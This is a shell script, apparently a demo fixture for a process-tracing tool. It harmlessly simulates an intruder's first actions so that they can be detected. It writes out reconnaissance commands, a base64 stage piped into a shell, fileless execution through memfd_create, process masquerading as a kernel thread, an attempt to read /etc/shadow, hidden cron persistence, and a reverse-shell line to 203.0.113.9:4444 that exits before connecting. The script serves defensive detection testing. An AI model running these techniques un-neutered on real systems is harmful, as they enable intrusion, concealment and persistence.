#!/bin/sh
# What an intruder does in his first second, played out harmlessly: everything it writes is in directories of
# its own that it removes, everything it starts it ends, and nothing leaves the machine. It prints nothing, so
# that the screen belongs to who is watching:
#
#     sudo martlet trace -- examples/demo/suspicious.sh
set -eu
umask 077
lair=$(mktemp -d)
den=$(mktemp -d /dev/shm/.den.XXXXXX 2>/dev/null || mktemp -d)
trap 'cd / && rm -rf "$lair" "$den"' EXIT
cd "$lair"
exec >/dev/null 2>&1

# Where am I, and as whom? `|| :` because a step that this machine refuses is not the end of the story.
id
whoami
uname -a
hostname || :
who || :
cat /etc/passwd

# A second stage arrives encoded and is piped into a shell (it says: id -u >/dev/null).
echo aWQgLXUgPi9kZXYvbnVsbAo= | base64 -d | sh || :

# A script is dropped, made executable and run through its #! line.
printf '#!/bin/sh\nuname -r\n' >update.sh
chmod 700 update.sh
./update.sh || :

# And a copy of it where nothing reaches a disk.
cp update.sh "$den/update.sh"
"$den/update.sh" || :

# A program under a name it was not born with, hidden and dressed as a kernel thread.
cp /bin/ls '.[kworker]'
'./.[kworker]' /etc || :

# A program without a file: copied into anonymous memory and run from there. Perl is part of every Debian.
case $(uname -m) in
x86_64) memfd_create=319 ;;
aarch64) memfd_create=279 ;;
*) memfd_create= ;;
esac
if [ -n "$memfd_create" ]; then
  perl -e '
    my ($number, $name) = (shift, "payload");
    my $fd = syscall($number + 0, $name, 0);
    open(my $memory, ">&=", $fd) or exit 1;
    open(my $program, "<", "/bin/true") or exit 1;
    binmode $_ for $memory, $program;
    print {$memory} do { local $/; <$program> };
    $memory->flush;
    exec {"/proc/self/fd/$fd"} "[kworker/0:1]";
  ' "$memfd_create" || :
fi

# The way back to whoever sent it. The shell ends before it would connect, and nobody has that address.
sh -c 'exit; exec bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' || :

# A secret on a command line. Who watches must not write it down.
/bin/true --password hunter2

# With no privilege left, a try at the password hashes: refused.
if [ "$(id -u)" = 0 ]; then
  setpriv --reuid 65534 --regid 65534 --clear-groups --inh-caps=-all cat /etc/shadow || :
else
  cat /etc/shadow || :
fi

# To be back tomorrow: a job for cron. In a mount namespace of its own, where a directory in memory covers the real
# one, so that cron never sees it and nothing is left.
[ "$(id -u)" = 0 ] && root= || root=--map-root-user
unshare $root --mount sh -c '
  mount -t tmpfs none /etc/cron.d && echo "* * * * * root $1/update.sh" >/etc/cron.d/update' sh "$lair" || :

# And whoever looks like a watchdog is stopped.
sleep 30 &
sleep 0.1 # it shall have become sleep, not be our copy still
kill $!
wait || :
